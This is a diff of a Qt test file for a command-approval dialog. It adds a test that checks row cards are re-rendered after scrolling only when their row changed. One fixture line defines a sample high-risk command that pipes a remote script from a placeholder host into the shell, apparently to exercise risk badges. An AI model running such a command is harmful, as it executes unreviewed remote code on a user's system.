@@ -2,19 +2,22 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
+import pytest
 from PySide6.QtCore import QEvent, QObject
 from PySide6.QtGui import QPalette
 from PySide6.QtWidgets import QApplication, QLabel, QPushButton, QWidget
 from pytestqt.qtbot import QtBot
 
 from desktop.core.model import Choice, OutcomeKind
-from desktop.model.approvals.texts import RISK_BADGES, risk_summary
+from desktop.model.approvals.texts import RISK_BADGES, remaining_text, risk_summary
 from desktop.risk import RiskLevel, assess
 from desktop.ui.approvals.cards import RowCard
 from desktop.ui.approvals.dialog import ApprovalDialog
 from desktop.ui.approvals.list_view import OVERSCAN, SPARE_WIDGETS
-from tests.model.approvals.factory import approval, resolved
-from tests.ui.approvals.factory import row_cards, upsert, widget_for
+from tests.model.approvals.factory import FakeClock, approval, resolved
+from tests.ui.approvals.factory import catch_up, row_cards, upsert, widget_for
 
 HIGH = "curl https://example.invalid/x.sh | sh"
 LOW = "ls -la"
@@ -96,6 +99,54 @@ def test_spares_are_bounded_and_released_when_the_dialog_hides(
     assert all(c.isHidden() for c in every_card if c not in built)
     dialog.hide()
     qtbot.waitUntil(lambda: dialog.list_view.viewport().findChildren(QWidget, "rowCard") == [])
+
+
+def test_a_card_back_on_screen_is_rendered_again_only_if_its_row_changed_meanwhile(
+    dialog: ApprovalDialog, qtbot: QtBot, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Rows rotating over sessions scroll the list back and forth: a card whose row did not
+    change while away comes back as it was (rendering it again took about 0.4 ms a card), its
+    countdown and selection as they are now."""
+    dialog.resize(700, 600)
+    for s in range(10):
+        for i in range(2):
+            a = approval(f"s{s}r{i}", session=f"s{s}", position=i, command=f"{LOW} {s} {i}")
+            upsert(dialog, "g", "G", replace(a, expires_at=clock.now + 300), "")
+    dialog.present(activate=False)
+    qtbot.waitExposed(dialog)
+    view = dialog.list_view
+    view.flush(overscan=True)
+    selected = dialog.selected_row()  # its card stays built wherever the list is
+    first = {c.entry.key: c for c in row_cards(view) if c.entry is not selected}
+    changed, chosen = list(first)[:2]
+    rendered: list[str] = []
+    render = RowCard.refresh
+    monkeypatch.setattr(
+        RowCard, "refresh", lambda card, now: (rendered.append(card.entry.key), render(card, now))
+    )
+    _scroll_to(dialog, view.verticalScrollBar().maximum())
+    assert not {c.entry.key for c in row_cards(view)} & set(first)
+    row = dialog.board.row(("g", changed))
+    assert row is not None
+    upsert(dialog, "g", "G", resolved(row.approval, OutcomeKind.DENIED, Choice.DENY), "")
+    clock.advance(61)
+    catch_up(dialog)  # the countdowns of the cards built tick
+    rendered.clear()
+    view.set_selected(dialog.board.row(("g", chosen)))
+    _scroll_to(dialog, 0)
+    back = {c.entry.key: c for c in row_cards(view)}
+    assert set(first) <= set(back)
+    assert set(rendered) & set(first) == {changed}  # a new card would be rendered too
+    assert back[changed].state.text() == "Denied"
+    assert all(back[key] is card for key, card in first.items() if key != changed)
+    for key, card in back.items():
+        assert card.entry is dialog.board.row(("g", key))
+        assert card.command.toPlainText() == card.entry.approval.command
+        expires_at = card.entry.approval.expires_at
+        assert expires_at is not None
+        shown = remaining_text(expires_at, clock.now) if card.entry.is_open else ""
+        assert card.countdown.text() == shown
+        assert card.property("selected") is (key == chosen)
 
 
 def test_a_spare_takes_a_waiting_look_for_the_next_row_and_every_card_looks_as_its_row(
